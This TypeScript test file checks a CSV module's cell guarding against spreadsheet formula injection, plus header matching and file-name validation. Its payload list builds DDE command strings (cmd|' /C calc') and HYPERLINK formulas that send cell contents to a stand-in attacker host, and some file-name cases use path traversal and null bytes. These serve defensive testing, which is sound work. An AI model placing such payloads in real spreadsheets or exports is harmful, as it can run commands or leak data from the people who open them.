import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvReader } from '../../../lib/csv/csv-reader.ts';
import { csvLine, guardCell, unguardCell } from './csv-cell.ts';
import { csvFileName, isCsvFileName } from './csv-file-name.ts';
import { csvHeader, headerDifference } from './csv-header.ts';

/** Beginnings of the payloads that are published for formula injection. */
const payloads = [
  ...['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '﹢', '﹣', '﹦', '﹫'],
  ...[' =', '\t=', '\u00a0=', '\u200b=', '\ufeff=', "'=", "''@", ' \n+', '\r\n='],
].flatMap((start) => [`${start}cmd|' /C calc'!A0`, `${start}HYPERLINK("https://evil.example?"&A1)`]);

describe('T4: a cell', () => {
  it('that a spreadsheet could run begins with an apostrophe, and is read as it was', () => {
    let neutral = 0;
    for (const payload of payloads) {
      expect(guardCell(payload)).toMatch(/^'/);
      expect(unguardCell(guardCell(payload))).toBe(payload);
      neutral += 1;
    }
    console.log(`T4: ${neutral} of ${payloads.length} formula payloads neutralised`);
  });

  it('that is a plain number or text stays as it is', () => {
    for (const text of ['-5', '-0.25', '12', "O'Neil", "'quoted'", '', 'a=b', "'"]) {
      expect(guardCell(text)).toBe(text);
      expect(unguardCell(text)).toBe(text);
    }
  });

  it('comes back from a file as it was, alone and among others (law)', () => {
    const part = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom(...payloads),
      fc.stringMatching(/^['=+\-\s@]*[a5]?$/),
    );
    const runs = process.env.HARDEN === undefined ? 3000 : 100_000;
    fc.assert(
      fc.property(fc.array(part, { minLength: 2, maxLength: 6 }), (cells) => {
        fc.pre(cells.some((cell) => cell !== ''));
        const [record] = csvReader().read(csvLine(cells), true);
        expect(record?.cells?.map(unguardCell)).toEqual(cells);
      }),
      { numRuns: runs },
    );
    console.log(`T4: import(export(x)) = x for ${runs} random rows`);
  });
});

describe('a header', () => {
  const expected = csvHeader([{ name: 'Phone' }, { name: '姓名' }]);

  it('fits when its columns are those of the template, in their order', () => {
    expect(headerDifference(expected, ['Phone', ' 姓名 '])).toBeNull();
    expect(headerDifference(expected, ['Phone', '姓名', '', ' '])).toBeNull();
  });

  it.each([
    [['Phone'], { code: 'header-column', column: 2, expected: '姓名', found: '' }],
    [['phone', '姓名'], { code: 'header-column', column: 1, expected: 'Phone', found: 'phone' }],
    [['Phone', '姓名', 'More'], { code: 'header-column', column: 3, expected: '', found: 'More' }],
    [['Phone;姓名'], { code: 'header-separator' }],
    [['Phone', '\ufffd\ufffd'], { code: 'header-encoding' }],
  ])('%j is told apart', (found, difference) => {
    expect(headerDifference(expected, found)).toEqual(difference);
  });
});

describe('a file name', () => {
  it('holds Chinese characters, letters, digits and underscores', () => {
    for (const name of ['customers_2026.csv', '客户.csv', 'A.CSV']) expect(isCsvFileName(name), name).toBe(true);
    for (const name of [
      'a b.csv',
      'a-b.csv',
      'a.b.csv',
      '.csv',
      'a.txt',
      '../a.csv',
      'a.csv\0',
      `${'a'.repeat(130)}.csv`,
    ])
      expect(isCsvFileName(name), name).toBe(false);
  });

  it('that is offered may be uploaded again', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (name) => isCsvFileName(csvFileName(name, 'my-table'))));
    expect(csvFileName('Customers (2026)', 'customers')).toBe('Customers_2026.csv');
    expect(csvFileName('…', 'my-table')).toBe('my_table.csv');
  });
});
